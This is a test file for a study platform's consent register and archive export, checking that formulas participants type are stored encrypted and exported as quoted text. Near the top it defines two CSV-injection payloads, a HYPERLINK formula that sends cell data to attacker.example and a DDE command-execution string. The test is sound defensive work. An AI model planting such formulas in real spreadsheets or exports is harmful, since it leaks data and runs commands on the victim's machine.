import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { seedDemo } from "@/db/seeds/demo";
import { consentRegisterCsv } from "@/lib/consent/consentRegisterCsv";
import { db } from "@/lib/db";
import { databaseArchiveSource, fetchConsentRegister } from "@/lib/data/exports";
import { fetchSessionByToken, recordConsent, saveAnswers } from "@/lib/data/participants";
import { randomPseudonyms, writeArchive } from "@/lib/export";
import { createSessionStudy, motionDesign, type SessionFixture } from "../e2e/fixtures/session-study";
import { readZip } from "../fixtures/readZip";

// The attack: a participant types a formula as their name, or into a free-text answer; the owner
// opens the consent register or the archive in a spreadsheet. The cell must arrive as text
// (OWASP CSV Injection: a leading single quote), and the name must never sit in the database in
// plaintext.
const FORMULA = '=HYPERLINK("http://attacker.example/?c="&A2,"Open the register")';
const ANSWER = "=cmd|' /C calc'!A0";
let fx: SessionFixture;

beforeAll(async () => {
  await seedDemo(db);
  fx = await createSessionStudy(db, "CSV injection test", { ...motionDesign, finalQuestionnaire: { ageBand: true, handedness: true, experience: true, comments: true } }, 1);
  const ctx = (await fetchSessionByToken(db, fx.participants[0]!.token))!;
  await recordConsent(db, ctx, { consentVersionId: fx.consentVersionId, versionHash: fx.consentHash, agreed: ["s1", "s2", "s3"], typedName: FORMULA, screenShortSidePx: 700 }, null);
  const live = (await fetchSessionByToken(db, fx.participants[0]!.token))!;
  await saveAnswers(db, live, { condition: "", answers: [{ itemId: "comments", valueInt: null, valueText: ANSWER }] });
});
afterAll(() => db.destroy());

describe("a formula typed by a participant", () => {
  it("is stored encrypted, and the consent register shows it as text", async () => {
    const stored = JSON.stringify(await db("consent_records").where({ participant_id: fx.participants[0]!.id }).first());
    expect(stored).not.toContain("HYPERLINK");
    const csv = consentRegisterCsv(await fetchConsentRegister(db, fx.studyId));
    const [header, row] = parse(csv) as string[][];
    expect(row![header!.indexOf("typed_name")]).toBe(`'${FORMULA}`);
  });

  it("stays text in the archive's questionnaires.csv", async () => {
    const source = await databaseArchiveSource(db, fx.studyId);
    const path = join(mkdtempSync(join(tmpdir(), "yawpoint-csv-")), "a.zip");
    await writeArchive(source, { pseudonyms: "random", includeStreams: false, includeDates: false, includeFreeText: true }, randomPseudonyms(source.participants.map((p) => p.id)), path);
    const files = await readZip(path);
    const rows = parse(files.get("questionnaires.csv")!.toString("utf8"), { columns: true }) as Record<string, string>[];
    expect(rows.find((r) => r.item === "comments")?.text).toBe(`'${ANSWER}`);
    expect(files.get("codebook.md")!.toString("utf8")).toContain("OWASP");
  });
});
